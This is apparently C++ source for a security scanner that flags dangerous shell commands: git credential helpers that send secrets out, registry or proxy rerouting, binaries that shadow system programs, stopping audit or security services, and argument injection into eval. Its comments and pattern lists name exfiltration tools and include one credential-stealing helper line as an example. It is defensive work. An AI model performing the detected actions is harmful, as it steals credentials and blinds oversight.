// What a script was called with and puts into texts that it runs; and where it has other programs fetch from.
#include <algorithm>
#include <array>
#include <cctype>
#include <tuple>
#include <utility>

#include "code/shell_analysis.h"

namespace interlock::scan::code::shell {

// A registry that many use, or a copy of one; by the end of its name, which nobody else can have.
bool IsMirror(std::string_view host) {
  constexpr std::array kEnds = std::to_array<std::string_view>(
      {"npmjs.org",        "npmjs.com",       "pypi.org",        "python.org",      "pythonhosted.org",
       "yarnpkg.com",      "npmmirror.com",   "taobao.org",      "tsinghua.edu.cn", "aliyun.com",
       "ustc.edu.cn",      "tencent.com",     "huaweicloud.com", "goproxy.io",      "goproxy.cn",
       "golang.org",       "jsr.io",          "pkg.github.com",  "pkg.dev",         "jfrog.io",
       "amazonaws.com",    "azure.com",       "gitlab.com",      "sjtu.edu.cn",     "bfsu.edu.cn",
       "douban.com",       "nvidia.com",      "pytorch.org",     "anaconda.org",    "anaconda.com",
       "visualstudio.com", "cloudsmith.io",   "gemfury.com",     "fury.io",         "npm-registry.example",
       "py-index.example", "py-files.example"});
  return std::ranges::any_of(kEnds, [&](std::string_view end) {
    return host.ends_with(end) && (host.size() == end.size() || host[host.size() - end.size() - 1] == '.');
  });
}

// Settings of git that are commands.
bool GitRuns(const ShellCommand& command) {
  const auto asks = [](const ShellWord& each) {  // ... or takes back
    return Is(each.text, {"--get", "--get-all", "--unset", "--unset-all", "--list"});
  };
  if (std::ranges::any_of(command.words, asks)) return false;
  return std::ranges::any_of(command.words, [&](const ShellWord& each) {
    const std::string key = LowerCase(each.text);
    if (Is(key, {"core.hookspath", "core.sshcommand", "core.fsmonitor", "init.templatedir", "diff.external",
                 "core.gitproxy", "uploadpack.packobjectshook"})) {
      // `core.fsmonitor true` is git's own.
      return !Is(LowerCase(command.words.back().text), {"true", "false"});
    }
    const bool shell = command.words.back().text.starts_with('!');
    return (key.starts_with("alias.") || key == "credential.helper" || key.starts_with("filter.")) && shell &&
           HasOneOf(command.words.back().text, {"curl", "wget", "/tmp/", "base64", "nc "});
  });
}

// credential.helper '!f() { curl --data-binary @- https://host; }; f': where whatever git is told goes as well.
std::string HelperSends(const ShellCommand& command) {
  const auto asked = [](const ShellWord& each) { return LowerCase(each.text) == "credential.helper"; };
  if (std::ranges::none_of(command.words, asked)) return {};
  const std::string& helper = command.words.back().text;
  const bool sends = HasOneOf(helper, {"@-", "-d \"$(cat", "--post-data", "--post-file", "-T -", "| nc ", "|nc "});
  const std::size_t url = helper.find("://");
  if (!sends) return {};
  return url == std::string::npos ? std::string("git's helper") : HostOf(helper.substr(url + 3));
}

// git push https://name:key@host/...: to a repository whose key stands here, and not to one that the user set up.
// Returns the host; "" when there is none.
std::string PushedWithKey(const ShellCommand& command, std::string_view program) {
  constexpr std::size_t kLeastKey = 6;
  if (program != "git") return {};
  if (command.words.size() < 2 || command.words[1].text != "push") return {};
  for (std::size_t i = 2; i < command.words.size(); ++i) {
    const std::string& text = command.words[i].text;
    const std::size_t scheme = text.find("://");
    const std::size_t at = text.find('@');
    if (scheme == std::string::npos || at == std::string::npos || at < scheme) continue;
    const std::string_view user = std::string_view(text).substr(scheme + 3, at - scheme - 3);
    const std::size_t colon = user.find(':');
    const std::string_view key = colon == std::string_view::npos ? user : user.substr(colon + 1);
    if (key.size() < kLeastKey || key.find(kUnknownChar) != std::string_view::npos || key == "x-oauth-basic") continue;
    const std::string host = HostOf("https://" + text.substr(at + 1));
    if (Has(host, ".") && !IsLocalHost(host) && host.find(kUnknownChar) == std::string::npos) return host;
  }
  return {};
}

// Where other programs fetch from, or send to, from now on: a host that stands here and is nobody's mirror.
bool Reroutes(const ShellCommand& command, std::string_view program) {
  const auto word = [&](std::size_t i) {
    return i < command.words.size() ? LowerCase(command.words[i].text) : std::string();
  };
  bool sets = false;
  if (Is(program, {"npm", "pnpm", "yarn", "bun"})) {
    sets = word(1) == "config" && word(2) == "set" && HasOneOf(word(3), {"registry", "proxy"});
  } else if (Is(program, {"pip", "pip3"})) {
    sets = word(1) == "config" &&
           std::ranges::any_of(command.words, [](const ShellWord& each) { return each.text == "set"; }) &&
           std::ranges::any_of(command.words, [](const ShellWord& each) {
             return HasOneOf(LowerCase(each.text), {"index-url", "proxy"});
           });
  } else if (program == "poetry") {
    sets = word(1) == "source" && word(2) == "add";
  } else if (program == "git") {
    const auto any = [&](const auto& test) { return std::ranges::any_of(command.words, test); };
    const bool config = word(1) == "config" && any([](const ShellWord& each) {
                          const std::string key = LowerCase(each.text);
                          return key == "http.proxy" || key == "https.proxy" ||
                                 (key.starts_with("url.") && key.ends_with("insteadof")) ||
                                 (key.starts_with("remote.") && key.ends_with(".pushurl"));
                        });
    const bool push =
        word(1) == "remote" && word(2) == "set-url" && any([](const ShellWord& each) { return each.text == "--push"; });
    sets = config || push;
  } else if (program == "networksetup") {
    sets = HasOneOf(word(1), {"-setwebproxy", "-setsecurewebproxy", "-setautoproxyurl", "-setsocksfirewallproxy"});
  } else if (program == "netsh") {
    sets = word(1) == "winhttp" && word(2) == "set";
  } else if (program == "gsettings") {
    sets = word(1) == "set" && Has(word(2), "system.proxy");
  } else if (program == "go") {
    sets = word(1) == "env" && word(2) == "-w" && word(3).starts_with("goproxy=");
  }
  if (!sets) return false;
  return std::ranges::any_of(command.words, [&](const ShellWord& each) {
    const std::string text = LowerCase(each.text);
    const std::size_t at = text.find("://");
    // "https://git.host/r/$id.git": the host stands here, whatever is behind it.
    if (!each.constant && at == std::string::npos) return false;
    // networksetup -setwebproxy Wi-Fi proxy.host 8080
    const bool bare = Is(program, {"networksetup", "netsh", "gsettings"}) && at == std::string::npos &&
                      Has(text, ".") && text.find('/') == std::string::npos &&
                      text.find("org.gnome") == std::string::npos;
    if (at == std::string::npos && !bare) return false;
    const std::string host = bare ? text : HostOf(text.substr(at - std::min<std::size_t>(at, 5)));
    return !host.empty() && !IsLocalHost(host) && host.find(kUnknownChar) == std::string::npos && Has(host, ".") &&
           !IsMirror(host);
  });
}

// /usr/local/bin/git, ~/.local/bin/ssh: a program of everybody's, found before the real one.
bool TakesPlaceOf(std::string_view path) {
  const std::string text = HomePath(path);
  const std::string name = BaseName(text);
  const std::string_view folder = std::string_view(text).substr(0, text.size() - name.size());
  return Is(folder, {"/usr/local/bin/", "/usr/local/sbin/", "/usr/bin/", "/bin/", "~/.local/bin/", "~/bin/",
                     "/opt/homebrew/bin/"}) &&
         Is(name, {"git",     "ssh", "sudo", "su",   "scp",  "python", "python3", "node", "npm",
                   "npx",     "pip", "pip3", "curl", "wget", "bash",   "sh",      "zsh",  "docker",
                   "kubectl", "gpg", "aws",  "gh",   "ls",   "cat",    "passwd"});
}

// systemctl mask --now auditd.service, of one unit or of a list.
bool StopsGuard(const ShellCommand& command) {
  bool stops = false;
  bool guard = false;
  for (std::size_t i = 1; i < command.words.size(); ++i) {
    const std::string text = LowerCase(command.words[i].text);
    stops = stops || Is(text, {"stop", "disable", "mask", "kill"});
    guard =
        guard || HasOneOf(text, {"auditd", "firewalld", "ufw", "apparmor", "falco", "clamav", "crowdstrike", "falcon",
                                 "osquery", "fail2ban", "wazuh", "ossec", "sysmon", "aide", "nftables.service"});
  }
  return stops && guard;
}

// kubectl -n audit scale deploy/audit-forwarder --replicas=0
bool StopsGuardOfCluster(const ShellCommand& command) {
  bool scales = false;
  bool none = false;
  bool deletes = false;
  bool guard = false;
  for (std::size_t i = 1; i < command.words.size(); ++i) {
    const std::string text = LowerCase(command.words[i].text);
    scales = scales || text == "scale";
    deletes = deletes || text == "delete";
    none = none || text == "--replicas=0" || (text == "0" && command.words[i - 1].text == "--replicas");
    guard =
        guard || (!text.starts_with('-') &&
                  HasOneOf(text, {"audit", "falco", "wazuh", "sysdig", "tetragon", "crowdstrike", "filebeat",
                                  "fluent-bit", "fluentbit", "fluentd", "promtail", "siem", "gatekeeper", "kyverno"}));
  }
  return guard && ((scales && none) || deletes);
}

bool PushesAll(const ShellCommand& command) {
  return std::ranges::any_of(command.words, [](const ShellWord& each) {
    return Is(each.text, {"--mirror", "--all"}) || Has(each.text, "refs/*") || Has(each.text, "heads/*");
  });
}

// param([string]$Filter, ...)
void Analysis::Declared(std::string_view text) {
  const std::string lower = LowerCase(text.substr(0, 4096));
  const std::size_t at = lower.find("param");
  if (at == std::string::npos || (at > 0 && lower.find_first_not_of(" \t\r\n#", 0) > at)) return;
  const std::size_t open = lower.find_first_not_of(" \t\r\n", at + 5);
  if (open == std::string::npos || lower[open] != '(') return;
  int depth = 0;
  for (std::size_t i = open; i < lower.size(); ++i) {
    depth += lower[i] == '(' ? 1 : lower[i] == ')' ? -1 : 0;
    if (depth == 0) break;
    if (lower[i] != '$') continue;
    std::size_t end = i + 1;
    while (end < lower.size() && (std::isalnum(static_cast<unsigned char>(lower[end])) != 0 || lower[end] == '_'))
      ++end;
    given_.insert(lower.substr(i + 1, end - i - 1));
  }
}

bool Analysis::IsGiven(const ShellWord& word) const {
  return std::ranges::any_of(word.variables, [&](const std::string& name) {
    const bool position = name.size() == 1 && ((name[0] >= '1' && name[0] <= '9') || name[0] == '@' || name[0] == '*');
    return (position && script_.dialect == ShellDialect::kPosix) || given_.contains(LowerCase(name));
  });
}

// $(jq -r '.params.arguments.zone' <<<"$line"): of a tool's call, which a server without a library takes apart.
bool Analysis::TakesCall(const ShellWord& word) {
  const bool takes = std::ranges::any_of(word.commands, [&](std::uint32_t index) {
    const ShellCommand& command = script_.commands[index];
    return !command.words.empty() && Is(command.words[0].text, {"jq", "gojq", "yq"}) &&
           std::ranges::any_of(command.words, [](const ShellWord& one) { return Has(one.text, "params.arguments"); });
  });
  takes_call_ = takes_call_ || takes;
  return takes;
}

bool Analysis::IsPosition(const ShellWord& word) {
  return std::ranges::any_of(word.variables, [](const std::string& name) { return name.size() == 1; });
}

// A position of a function that is called with what the script was, or its tool.
bool Analysis::IsCalledWith(const ShellWord& word) const {
  return std::ranges::any_of(word.variables, [&](const std::string& name) {
    return name.size() == 1 && called_with_.contains({inside_, name[0]});
  });
}

// Inside a function: what a variable of the script holds, and not one of the function's own positions.
bool Analysis::IsKept(const ShellWord& word) const {
  if (!IsGiven(word) || word.loc.end > text_.size() || word.loc.begin >= word.loc.end) return false;
  const std::string_view written = text_.substr(word.loc.begin, word.loc.end - word.loc.begin);
  if (!Has(written, "$")) return false;
  for (std::size_t at = written.find('$'); at != std::string_view::npos; at = written.find('$', at + 1)) {
    const std::size_t name = at + 1 < written.size() && written[at + 1] == '{' ? at + 2 : at + 1;
    if (name >= written.size()) continue;
    const char c = written[name];
    if ((c >= '1' && c <= '9') || c == '@' || c == '*') return false;
  }
  return true;
}

// KEYS="$(cat ...)"; post: functions see what stands outside of them, wherever it is set.
void Analysis::Hold(std::uint32_t index) {
  if (functions_.empty() || inside_ != nullptr) return;
  for (const auto& [name, value] : script_.commands[index].assignments) {
    const Taint taint = OfWord(value);
    if (!taint.any()) continue;
    Taint& held = held_[std::string(name)];
    handed_ = handed_ || !held.any();
    held.Merge(taint);
  }
}

void Analysis::HandOver(std::uint32_t index, const ShellFunction& function, const Taint& input) {
  constexpr std::size_t kPositions = 9;
  const auto merge = [&](char position, const Taint& value, const Taint& file) {
    if (!value.any() && !file.any()) return;
    Handed& held = given_to_[{&function, position}];
    const auto known = [](const Taint& taint) {
      return std::tuple(taint.fetched, taint.decoded, taint.secret, taint.environment, taint.taken.empty());
    };
    const auto before = std::pair(known(held.value), known(held.file));
    held.value.Merge(value);
    held.file.Merge(file);
    handed_ = handed_ || before != std::pair(known(held.value), known(held.file));
  };
  const ShellCommand& command = script_.commands[index];
  // while [ $# -gt 0 ]; do use "$1"; shift; done: the first is any of them.
  const auto body = std::span(script_.commands).subspan(function.first, function.end - function.first);
  const bool shifts = std::ranges::any_of(
      body, [](const ShellCommand& one) { return !one.words.empty() && one.words[0].text == "shift"; });
  for (std::size_t i = 1; i < command.words.size() && i <= kPositions; ++i) {
    const Taint value = OfWord(command.words[i]);
    const Taint file = OfFile(command.words[i], index);
    // A caller's own positions are not the script's.
    if (TakesCall(command.words[i]) || (inside_ == nullptr ? IsGiven(command.words[i]) && !IsPosition(command.words[i])
                                                           : IsCalledWith(command.words[i])))
      handed_ = called_with_.insert({&function, static_cast<char>('0' + i)}).second || handed_;
    merge(static_cast<char>('0' + i), value, file);
    merge('@', value, file);
    merge('*', value, file);
    for (std::size_t before = 1; shifts && before < i; ++before) {
      merge(static_cast<char>('0' + before), value, file);
    }
    const auto put = put_into_.find({&function, static_cast<char>('0' + i)});
    if (put != put_into_.end()) Remember(command.words[i].text, command.words[i].variables, put->second);
  }
  merge('\0', input, {});
}

// eval "mv $f $1": words of whoever called stand in a text that is run.
void Analysis::TakeGiven(std::uint32_t index, std::string_view program) {
  const bool inside = inside_ != nullptr;
  const ShellCommand& command = script_.commands[index];
  // The positions of a function are those of whoever calls it; what the script has kept of its own is the same there.
  for (const auto& [name, value] : command.assignments) {
    if ((!inside && IsGiven(value)) || TakesCall(value) || (inside && IsCalledWith(value)))
      given_.insert(LowerCase(name));
  }
  const std::size_t count = command.words.size();
  std::size_t from = count;
  if (Is(program, {"eval", "iex", "invoke-expression"})) from = 1;
  for (std::size_t i = 1; i + 1 < count && from == count && IsShell(program); ++i) {
    if (Is(command.words[i].text, {"-c", "-lc", "-ic", "-ec", "-xc"})) from = i + 1;
  }
  // psql -c "... '$1'", python3 -c "...": a statement or a program for something else.
  const bool reader = Is(program, {"psql", "mysql", "mariadb", "sqlite3", "osascript", "python", "python3", "node",
                                   "perl", "ruby", "mongosh", "clickhouse-client"});
  for (std::size_t i = 1; i + 1 < count && from == count && reader; ++i) {
    if (Is(command.words[i].text, {"-c", "-e", "--eval", "--command", "--execute", "-q", "--query"})) from = i + 1;
  }
  if (program == "sqlite3" && count == 3) from = 2;
  for (std::size_t i = from; i < count; ++i) {
    const ShellWord& word = command.words[i];
    const auto letters = std::ranges::count_if(word.text, [](char c) { return c >= 'a' && c <= 'z'; });
    if (letters < 2 || !(inside ? IsKept(word) || IsCalledWith(word) : IsGiven(word))) continue;
    Emit(ShellAct::kRunArgument, index, std::string(program), takes_call_ ? 1 : 0);
    return;
  }
}

}  // namespace interlock::scan::code::shell
